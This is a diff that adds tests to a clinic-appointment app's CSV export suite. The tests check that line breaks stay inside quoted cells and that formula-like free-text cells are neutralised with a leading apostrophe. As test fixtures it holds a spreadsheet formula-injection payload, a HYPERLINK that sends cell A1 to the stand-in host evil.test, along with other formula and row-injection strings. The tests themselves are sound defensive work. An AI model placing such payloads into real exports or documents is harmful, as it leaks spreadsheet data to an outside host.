@@ -12,7 +12,7 @@ import { listFormat } from '../../src/http/csv.js';
 import { importJsonLines } from '../../src/services/import.js';
 import { buildTestApp, type TestApp } from '../helpers/app.js';
 import { dialects } from '../helpers/db.js';
-import { A, FIXTURE_NOW_MS } from '../helpers/fixtures.js';
+import { A, FIXTURE_NOW_MS, uid } from '../helpers/fixtures.js';
 import { call, citaA, expectError, JSON_UTF8, ok, PATHS, tick, type ApiPath } from './helpers.js';
 
 const CSV = 'text/csv; charset=utf-8';
@@ -164,6 +164,76 @@ describe.each(dialects())('CSV on %s', (dialect) => {
     const row = rows.find((r) => r[0] === citaA(2))!;
     expect(row[rows[0]!.indexOf('cliente_nombre')]).toBe(nombre);
     expect(row[rows[0]!.indexOf('notas')]).toBe(notas);
+  });
+
+  /** Imports JSON lines into clinic A. */
+  async function importA(records: object[]): Promise<void> {
+    const text = records.map((l) => JSON.stringify(l)).join('\n');
+    const done = await importJsonLines(t.database, t.clinicA.id, Readable.from([text]), { now: () => t.clock.now });
+    expect(done.changed).toBe(true);
+  }
+  const citaLine = (n: number, over: Record<string, unknown>) => ({
+    type: 'cita',
+    id: citaA(n),
+    clienta_id: A.pct,
+    fecha_hora: `2026-04-02T1${n % 10}:00:00+02:00`,
+    servicio: 'Limpieza facial',
+    duracion_min: 60,
+    precio: 25.5,
+    estado: 'confirmada',
+    profesional_nombre: 'Laura Martín',
+    sede_nombre: 'Sede Centro',
+    created_at: '2026-03-01T09:00:00+01:00',
+    ...over,
+  });
+
+  it('quotes a field with a lone line feed or a lone carriage return: one record stays one row', async () => {
+    await importA([citaLine(5, { notas: 'RED\nInjected line' }), citaLine(6, { notas: 'uno\rdos' })]);
+    const res = await csv('/api/v1/citas?desde=2026-04-02&hasta=2026-04-02');
+    expect(res.body).toContain('"RED\nInjected line"');
+    expect(res.body).toContain('"uno\rdos"');
+    // Outside quotes, every line ends with CRLF: no bare LF or CR starts a row of its own.
+    const rows = parseCsv(res.body);
+    expect(rows).toHaveLength(3);
+    const notas = rows[0]!.indexOf('notas');
+    expect(rows.slice(1).map((r) => r[notas])).toEqual(['RED\nInjected line', 'uno\rdos']);
+  });
+
+  it("neutralises free-text cells that would start a formula (a ' before, in quotes), never phones, numbers or the JSON", async () => {
+    const id = uid('a', 1, 70);
+    const hyperlink = '=HYPERLINK("http://evil.test/?"&A1,"x")';
+    await importA([
+      {
+        type: 'clienta',
+        id,
+        nombre: hyperlink,
+        telefono: '+34611222333',
+        email: '-2+3@evil.test',
+        vip: false,
+        cliente_desde: '2024-05-10',
+        created_at: '2024-05-10T10:00:00+02:00',
+      },
+      citaLine(7, { clienta_id: id, servicio: '+cmd', profesional_nombre: '@SUM(1)', sede_nombre: '\tSede', notas: '\rnota' }),
+    ]);
+    const clientas = await csv('/api/v1/clientas');
+    expect(clientas.body).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""x"")"`);
+    const crows = parseCsv(clientas.body);
+    const col = (rows: string[][], row: string[], name: string) => row[rows[0]!.indexOf(name)];
+    const clienta = crows.find((r) => r[0] === id)!;
+    expect(col(crows, clienta, 'nombre')).toBe(`'${hyperlink}`);
+    expect(col(crows, clienta, 'email')).toBe("'-2+3@evil.test");
+    expect(col(crows, clienta, 'telefono')).toBe('+34611222333');
+    // Every other clienta's phone keeps its + too.
+    const telefono = crows[0]!.indexOf('telefono');
+    expect(crows.slice(1).every((r) => /^\+\d+$/.test(r[telefono]!))).toBe(true);
+    const citas = parseCsv((await csv('/api/v1/citas?desde=2026-04-02&hasta=2026-04-02')).body);
+    const cita = citas.find((r) => r[0] === citaA(7))!;
+    expect(
+      ['cliente_nombre', 'telefono', 'servicio', 'precio', 'profesional_nombre', 'sede_nombre', 'notas'].map((c) => col(citas, cita, c)),
+    ).toEqual([`'${hyperlink}`, '+34611222333', "'+cmd", '25.5', "'@SUM(1)", "'\tSede", "'\rnota"]);
+    // The JSON is never changed.
+    const json = (await ok(t, '/api/v1/clientas')).clientas as Record<string, unknown>[];
+    expect(json.find((r) => r['id'] === id)).toMatchObject({ nombre: hyperlink, email: '-2+3@evil.test' });
   });
 
   it.each(PATHS)('%s: Link rel="next" walks every page (the days applied written in) and is absent on the last', async (path) => {
